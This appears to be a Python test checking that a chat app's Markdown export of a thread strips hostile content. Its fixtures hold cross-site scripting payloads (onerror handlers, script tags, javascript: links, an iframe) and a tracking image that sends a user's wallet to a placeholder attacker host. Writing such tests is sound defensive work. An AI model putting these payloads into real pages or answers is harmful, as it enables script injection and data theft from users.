"""A thread exported as Markdown through the worker, on both runtimes: whatever its title,
questions, answers and tool arguments hold, the document opened in a Markdown viewer makes
no raw HTML, no image and no link but http(s) and mailto (read by markdown-it-py with raw
HTML and every scheme let through, and by the chat's vendored marked)."""

from __future__ import annotations

from tests.support.chat_client import ChatClient
from tests.support.markdown_check import NODE, marked_html, unsafe_html, unsafe_tokens
from tests.support.runtime_process import RuntimeProcess
from tests.support.scripted_model import Reply, ScriptedModelServer, ScriptedToolCall

TITLE = "<img src=x onerror=alert(1)> [go](javascript:alert(1)) ![t](https://evil.example/t)"
QUESTION = (
    "<script>alert(2)</script> what is ![q](https://evil.example/q.png) "
    "[here](javascript:alert(3))?\n```\nuntouched <b>code</b>\n"
)
ANSWER = (
    "Top pick: [Aave](https://aave.com).\n"
    "![pixel](https://evil.example/p.gif?d=THE-USERS-WALLET)\n"
    "<details open ontoggle=alert(4)><summary>x</summary></details>\n"
    "[ref]\n\n[ref]: javascript:alert(5)\n"
    "- item\n  ```\n  <img src=y>\n  ```\n<iframe src=z></iframe>\n"
    "https://a.example/p`<img src=w onerror=alert(6)>`"
)
ARGUMENTS = {"query": "` <img src=v onerror=alert(7)> ``` [a](javascript:alert(8))"}


async def test_the_markdown_export_of_a_hostile_thread_is_safe(
    runtime: RuntimeProcess, model: ScriptedModelServer
) -> None:
    async with ChatClient(runtime.url, runtime.ws_url) as client:
        await client.connect()
        thread = await client.new_thread()
        renamed = await client.http.patch(f"/api/threads/{thread}", json={"title": TITLE})
        assert renamed.status_code == 200, renamed.text
        model.script(
            Reply(tool_calls=[ScriptedToolCall(name="search_feed", arguments=ARGUMENTS)]),
            Reply(text=[ANSWER]),
        )
        frames = await client.turn(thread, QUESTION)
        assert any(f["type"] == "tool_result" for f in frames)
        exported = await client.http.get(
            f"/api/threads/{thread}/export", params={"format": "markdown"}
        )
    assert exported.status_code == 200
    text = exported.text
    assert unsafe_tokens(text) == [], text
    if NODE.exists():
        [html] = marked_html([text])
        assert unsafe_html(html) == [], html
    # The conversation is still there: the plain link, the code, the call's arguments.
    assert "[Aave](https://aave.com)" in text and "untouched <b>code</b>" in text
    assert '> Tool `search_feed` ````{"query": ' in text
    assert "pixel" in text and "evil.example/p.gif" not in text
